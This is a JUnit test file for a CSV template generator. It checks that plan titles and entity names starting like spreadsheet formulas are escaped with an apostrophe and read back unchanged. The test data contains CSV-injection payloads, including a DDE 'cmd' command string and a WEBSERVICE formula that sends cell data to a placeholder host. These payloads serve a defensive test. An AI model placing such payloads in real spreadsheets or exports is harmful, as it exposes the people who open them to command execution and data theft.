package sctb.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.io.TempDir;
import sctb.core.submission.Column;
import sctb.core.submission.RawFile;
import sctb.core.submission.RawRow;
import sctb.io.csv.CsvFileReader;
import sctb.io.csv.Formulas;

/**
 * Formula injection through {@code sctb template}: task titles from a plan and entity names from a
 * previous (untrusted) submission that start like a spreadsheet formula come out with a leading
 * apostrophe — Excel shows them as text — and reading the file back gives the original text.
 */
class TemplateFormulaTest {
  static final Map<String, String> TITLES = Map.of(
      "Triển khai chỉ đạo, hướng dẫn của Bộ Công Thương", "=HYPERLINK(\\\"http://x\\\")",
      "Tham mưu ban hành kế hoạch hành động của tỉnh", "+cmd|' /C calc'!A0",
      "Cụm công nghiệp, làng nghề sinh thái và bền vững", "-2+3",
      "Hệ thống hậu cần phân phối xanh, bền vững", "@SUM(A1:A9)",
      "Hỗ trợ doanh nghiệp xuất nhập khẩu bền vững", "'đã có nháy");
  static final List<String> EXPECTED_TITLES = List.of("=HYPERLINK(\"http://x\")", "+cmd|' /C calc'!A0", "-2+3",
      "@SUM(A1:A9)", "'đã có nháy");
  static final String ENTITY = "=WEBSERVICE(\"http://x/?\"&A1)";

  @TempDir Path dir;

  @ParameterizedTest(name = "excel={0}")
  @ValueSource(booleans = {false, true})
  void tasksTemplateNeutralisesTitlesAndReadsBackTheOriginal(boolean excel) throws IOException {
    Path plan = hostilePlan();
    Path out = dir.resolve("SCT-nhiem-vu.csv");
    CliRun run = CliRun.run(args(plan, out, "tasks", excel));
    assertThat(run.exitCode()).as(run.err()).isZero();
    byte[] bytes = Files.readAllBytes(out);

    assertNoCellRunsAsFormula(bytes, excel, Set.of(5, 9));
    String text = new String(bytes, StandardCharsets.UTF_8);
    assertThat(text).contains("'=HYPERLINK(\"\"http://x\"\")", "'+cmd|", "'-2+3", "'@SUM(A1:A9)", "''đã có nháy");

    RawFile back = CsvFileReader.read(out.toString(), bytes, null);
    List<String> titles = back.rows().stream().map(r -> r.text(Column.TITLE)).toList();
    assertThat(titles).containsAll(EXPECTED_TITLES);
  }

  @ParameterizedTest(name = "excel={0}")
  @ValueSource(booleans = {false, true})
  void indicatorsTemplateNeutralisesEntitiesFromEarlierSubmissions(boolean excel) throws IOException {
    Path plan = hostilePlan();
    Path earlier = Files.createDirectories(dir.resolve("samples/2024H1"));
    Files.writeString(earlier.resolve("SCT-chi-so.csv"),
        "period,agency,indicator,sector,entity,numerator,denominator,unit,note\n"
            + "2024H1,SCT,consumption-reduction,textile,\"" + ENTITY.replace("\"", "\"\"") + "\",1280644.0,2260.5,kgOE/tấn,\n");
    Path out = dir.resolve("SCT-chi-so.csv");
    CliRun run = CliRun.runWithEnv(Map.of("SCTB_TODAY", "2026-11-25"), args(plan, out, "indicators", excel));
    assertThat(run.exitCode()).as(run.err()).isZero();
    byte[] bytes = Files.readAllBytes(out);

    assertNoCellRunsAsFormula(bytes, excel, Set.of(6, 7));
    assertThat(new String(bytes, StandardCharsets.UTF_8)).contains("'=WEBSERVICE(");
    RawFile back = CsvFileReader.read(out.toString(), bytes, null);
    assertThat(back.rows().stream().map(r -> r.text(Column.ENTITY))).contains(ENTITY);
  }

  /** Every text cell (all but the numeric columns, which hold only plain numbers) is safe to open. */
  static void assertNoCellRunsAsFormula(byte[] bytes, boolean excel, Set<Integer> numeric) throws IOException {
    String text = new String(bytes, StandardCharsets.UTF_8).replace("\uFEFF", "");
    List<CSVRecord> records = CSVFormat.DEFAULT.builder().setDelimiter(excel ? ';' : ',').get()
        .parse(new StringReader(text)).getRecords();
    assertThat(records).hasSizeGreaterThan(1);
    List<String> risky = new ArrayList<>();
    for (CSVRecord r : records) {
      for (int c = 0; c < r.size(); c++) {
        String cell = r.get(c);
        boolean ok = numeric.contains(c) && r.getRecordNumber() > 1 ? cell.isEmpty() || Formulas.number(cell) : !Formulas.risky(cell);
        if (!ok) {
          risky.add(r.getRecordNumber() + ":" + c + " " + cell);
        }
      }
    }
    assertThat(risky).isEmpty();
  }

  private Path hostilePlan() throws IOException {
    String plan = Files.readString(CliRun.PLAN, StandardCharsets.UTF_8);
    for (Map.Entry<String, String> e : TITLES.entrySet()) {
      String find = "vi: \"" + e.getKey() + "\"";
      assertThat(plan).as("fixture title present").contains(find);
      plan = plan.replace(find, "vi: \"" + e.getValue() + "\"");
    }
    return Files.writeString(dir.resolve("plan.yaml"), plan);
  }

  private static String[] args(Path plan, Path out, String kind, boolean excel) {
    List<String> args = new ArrayList<>(List.of("template", "--plan", plan.toString(), "--agency", "SCT", "--period",
        "2024H2", "--kind", kind, "-o", out.toString()));
    if (excel) {
      args.add("--excel");
    }
    return args.toArray(String[]::new);
  }
}
